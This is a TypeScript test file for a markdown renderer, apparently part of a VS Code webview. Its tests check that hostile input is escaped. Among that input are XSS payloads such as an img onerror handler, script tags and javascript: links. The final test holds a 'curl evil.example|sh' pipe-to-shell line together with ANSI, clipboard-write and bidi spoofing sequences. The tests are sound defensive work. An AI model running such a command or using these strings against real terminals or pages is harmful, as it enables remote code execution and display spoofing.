import { test } from "node:test";
import assert from "node:assert/strict";
import { escapeHtml, inline, renderMarkdown, safeHref, stablePrefix, visible } from "../src/webview/markdown";

test("HTML in the source is escaped, never rendered", () => {
	assert.equal(renderMarkdown("<img src=x onerror=alert(1)> & <script>x</script>"), "<p>&lt;img src=x onerror=alert(1)&gt; &amp; &lt;script&gt;x&lt;/script&gt;</p>");
	assert.equal(inline('**<b>"x"</b>**'), "<strong>&lt;b&gt;&quot;x&quot;&lt;/b&gt;</strong>");
});

test("fenced code keeps its text literally, with a language label and a copy button", () => {
	const html = renderMarkdown("Look:\n\n```go\nif a < b && c {\n\t**x**\n}\n```\nafter");
	assert.equal(
		html,
		'<p>Look:</p><div class="code"><div class="code-head"><span class="lang">go</span><button class="copy" data-action="copy" title="Copy">Copy</button></div>' +
			'<pre><code data-lang="go">if a &lt; b &amp;&amp; c {\n\t**x**\n}</code></pre></div><p>after</p>',
	);
});

test("an unclosed fence (still streaming) renders as an open code block", () => {
	assert.match(renderMarkdown("```js\nlet a = 1"), /<div class="code open">.*let a = 1<\/code>/);
});

test("inline markup", () => {
	assert.equal(inline("a **b** *c* _d_ ~~e~~ `f*g*` snake_case_name"), "a <strong>b</strong> <em>c</em> <em>d</em> <del>e</del> <code>f*g*</code> snake_case_name");
	assert.equal(inline("``a ` b``"), "<code>a ` b</code>");
	assert.equal(inline("\\*not\\*"), "*not*");
});

test("links only for safe targets, never javascript:", () => {
	assert.equal(inline("[docs](https://go.dev/doc)"), '<a href="#" data-href="https://go.dev/doc" title="https://go.dev/doc">docs</a>');
	assert.equal(inline("[x](javascript:alert(1))"), "[x](javascript:alert(1))");
	assert.equal(inline("[x](javascript:alert)"), "x");
	assert.equal(inline("[cart](src/cart.go)"), '<a href="#" data-href="src/cart.go" title="src/cart.go">cart</a>');
	assert.equal(inline('[q](https://a.b/?x="y")'), '<a href="#" data-href="https://a.b/?x=&quot;y&quot;" title="https://a.b/?x=&quot;y&quot;">q</a>');
	assert.equal(inline("see https://example.org/x."), 'see <a href="#" data-href="https://example.org/x" title="https://example.org/x">https://example.org/x</a>.');
	assert.equal(inline("![logo](https://x/y.png)"), '<span class="img-alt">[image: logo]</span>');
	assert.equal(safeHref("data:text/html,x"), undefined);
	assert.equal(safeHref("command:workbench.action.quit"), undefined);
	assert.equal(safeHref("vscode://x"), undefined);
});

test("headings, lists, quotes, rules and tables", () => {
	assert.equal(renderMarkdown("# Title\n## Sub"), "<h1>Title</h1><h2>Sub</h2>");
	assert.equal(renderMarkdown("- a\n- b\n  - c\n- d"), "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>");
	assert.equal(renderMarkdown("3. x\n4. y"), '<ol start="3"><li>x</li><li>y</li></ol>');
	assert.equal(renderMarkdown("> quoted\n> more"), "<blockquote><p>quoted<br>more</p></blockquote>");
	assert.equal(renderMarkdown("a\n\n---\n\nb"), "<p>a</p><hr><p>b</p>");
	assert.equal(
		renderMarkdown("| a | b |\n|---|--:|\n| 1 | `x|y` |"),
		'<table><thead><tr><th>a</th><th class="al-right">b</th></tr></thead><tbody><tr><td>1</td><td class="al-right"><code>x|y</code></td></tr></tbody></table>',
	);
	assert.equal(renderMarkdown("line one\nline two"), "<p>line one<br>line two</p>");
});

test("stablePrefix cuts only at block boundaries outside code fences", () => {
	const t = "Para one.\n\nPara two\n\n```go\ncode\n\nmore\n```\n\nTail being wr";
	const cut = stablePrefix(t, 0);
	assert.equal(t.slice(cut), "Tail being wr");
	// Inside an open fence there is no boundary after the fence start.
	const open = "Intro\n\n```\na\n\nb\n";
	assert.equal(open.slice(stablePrefix(open, 0)), "```\na\n\nb\n");
	// Rendering the prefix and the rest separately equals rendering the whole.
	assert.equal(renderMarkdown(t.slice(0, cut)) + renderMarkdown(t.slice(cut)), renderMarkdown(t));
	// Resuming from a previous cut gives the same answer.
	assert.equal(stablePrefix(t, stablePrefix(t.slice(0, 12), 0)), cut);
	// A list after a blank line is not a boundary (it may be a loose list).
	const list = "- a\n\n- b\n";
	assert.equal(stablePrefix(list, 0), 0);
});

test("control and bidi characters are shown, never rendered or obeyed (issue 23)", () => {
	const spoof = "curl evil.example|sh\r\x1b[2K\x1b[1A  $ ls -la \x1b]52;c;ZXZpbA==\x07 \u009b2J \u202eevil\u202c";
	const html = renderMarkdown(spoof);
	assert.equal(html, "<p>curl evil.example|sh<br>\\x1b[2K\\x1b[1A  $ ls -la \\x1b]52;c;ZXZpbA==\\x07 \\u009b2J \\u202eevil\\u202c</p>");
	assert.doesNotMatch(renderMarkdown("```\n" + spoof + "\n```"), /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]/);
	assert.equal(visible("tab\tand\nline, ünï 日本 👍"), "tab\tand\nline, ünï 日本 👍");
	assert.equal(escapeHtml("<\x1b>"), "&lt;\\x1b&gt;");
	// The renderer's own placeholders cannot be forged from the text.
	assert.equal(inline("a \u0000C0\u0000 `b`"), "a \\x00C0\\x00 <code>b</code>");
});
